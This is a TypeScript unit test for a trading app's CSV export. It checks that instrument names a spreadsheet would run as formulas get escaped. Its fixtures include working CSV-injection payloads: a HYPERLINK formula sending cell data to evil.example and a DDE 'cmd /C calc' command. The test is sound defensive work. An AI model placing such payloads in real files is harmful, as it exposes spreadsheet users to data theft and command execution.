import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { test } from 'node:test';
import type { NewInstrument } from '../../shared/model';
import { Journal } from '../store/journal';
import { exportCandlesCsv, exportTicksCsv } from './csv';

const T = Date.parse('2026-11-20T04:00:00Z');

async function csvOf(write: (out: PassThrough) => Promise<number>): Promise<string[]> {
  const out = new PassThrough();
  let text = '';
  out.on('data', (d: Buffer) => (text += d.toString()));
  await write(out);
  out.end();
  return text.trimEnd().split('\n');
}

test('text cells that a spreadsheet would run as a formula are defused; numbers, even negative, are not', async () => {
  const j = new Journal(join(mkdtempSync(join(tmpdir(), 'tickdesk-csv-')), 'j.sqlite'), { flushMs: 10_000 });
  const base: NewInstrument = { broker: 'kite', token: '1', exchange: 'NSE', segment: 'NSE', symbol: 'X', tickSize: 0.05, lotSize: 1 };
  // What a hostile or broken instrument list could carry, and the cell each must become.
  const cases: Array<[exchange: string, symbol: string, exchangeCell: string, symbolCell: string]> = [
    ['NSE', '=HYPERLINK("http://evil.example/?"&A1,"click")', 'NSE', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['NSE', '+91-CMD', 'NSE', "'+91-CMD"],
    ['NSE', '-2+3+cmd|\' /C calc\'!A0', 'NSE', "'-2+3+cmd|' /C calc'!A0"],
    ['NSE', '@SUM(1+1)*cmd', 'NSE', "'@SUM(1+1)*cmd"],
    ['NSE', '\t=1+1', 'NSE', "'\t=1+1"],
    ['NSE', '\r=1+1', 'NSE', `"'\r=1+1"`],
    ['=EXCH', 'M&M', "'=EXCH", 'M&M'],
    ['NSE', 'BAJAJ-AUTO', 'NSE', 'BAJAJ-AUTO'], // a dash inside is fine
    ['NSE', 'A,B', 'NSE', '"A,B"'],
  ];
  for (const [i, [exchange, symbol, exchangeCell, symbolCell]] of cases.entries()) {
    const id = j.upsertInstrument({ ...base, token: String(i + 1), exchange, symbol });
    j.append({ instrumentId: id, tsExchange: T, tsReceived: T + 5, ltp: 1500.5, close: -1.5, oi: 0 });
    j.flush();
    const ins = j.instrument(id)!;
    const ticks = await csvOf((out) => exportTicksCsv(j, ins, T - 1, T + 1, out));
    assert.equal(ticks.length, 2, symbol);
    assert.equal(
      ticks[1],
      ['2026-11-20T09:30:00.000+05:30', '2026-11-20T09:30:00.005+05:30', exchangeCell, symbolCell, '1500.5', '', '', '', '', '0', '', '', '', '', '', '-1.5', ...Array(30).fill('')].join(','),
      symbol,
    );
    const candles = await csvOf((out) => exportCandlesCsv(j, ins, '1m', T - 60_000, T + 60_000, out));
    assert.equal(candles[1], ['2026-11-20T09:30:00.000+05:30', exchangeCell, symbolCell, '1m', '1500.5', '1500.5', '1500.5', '1500.5', '0', '0'].join(','), symbol);
  }
  j.close();
});
